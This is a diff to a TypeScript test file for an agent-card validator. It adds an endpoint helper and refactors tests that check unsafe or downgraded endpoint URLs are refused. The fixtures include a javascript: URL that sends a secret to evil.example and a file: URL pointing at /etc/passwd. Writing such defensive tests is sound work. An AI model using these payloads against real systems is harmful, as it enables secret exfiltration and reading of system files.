@@ -519,13 +519,24 @@ function cardWith(override: Record<string, unknown>) {
   return agentApp(newSeen(), [], () => Response.json({ ...rest, ...override }));
 }
 
+/** A card's endpoint fields: `url`, then a JSON-RPC and an HTTP+JSON interface, in that order. */
+function endpoints(url: string, jsonRpc: string, rest: string) {
+  return {
+    url,
+    supportedInterfaces: [
+      { url: jsonRpc, protocolBinding: 'JSONRPC' },
+      { url: rest, protocolBinding: 'HTTP+JSON' },
+    ],
+  };
+}
+
 test('a card whose endpoints are javascript:, file:, data: or ftp: URLs is refused as AGENT_CARD_INVALID, naming each path but no value', async () => {
   const app = cardWith({
-    url: 'javascript:fetch("//evil.example/?k=SECRET-1")',
-    supportedInterfaces: [
-      { url: 'file:///etc/passwd?SECRET-2', protocolBinding: 'JSONRPC' },
-      { url: 'data:application/json,{"result":"SECRET-3"}', protocolBinding: 'HTTP+JSON' },
-    ],
+    ...endpoints(
+      'javascript:fetch("//evil.example/?k=SECRET-1")',
+      'file:///etc/passwd?SECRET-2',
+      'data:application/json,{"result":"SECRET-3"}',
+    ),
     additionalInterfaces: [{ url: 'ftp://user:SECRET-4@host.example/a2a', transport: 'GRPC' }],
   });
   await withApp(app, async ({ origin }) => {
@@ -547,13 +558,9 @@ test('a card whose endpoints are javascript:, file:, data: or ftp: URLs is refus
 });
 
 test('a card fetched over https may not send the client to plain http, while one fetched over http may use either', async () => {
-  const app = cardWith({
-    url: 'https://agent.example/a2a',
-    supportedInterfaces: [
-      { url: 'http://agent.example/a2a', protocolBinding: 'JSONRPC' },
-      { url: 'https://agent.example/rest', protocolBinding: 'HTTP+JSON' },
-    ],
-  });
+  const app = cardWith(
+    endpoints('https://agent.example/a2a', 'http://agent.example/a2a', 'https://agent.example/rest'),
+  );
   await withApp(app, async ({ origin }) => {
     // The https card URL is served by the loopback app: only the scheme the caller asked for matters.
     const overHttps: FetchLike = (input, init) =>
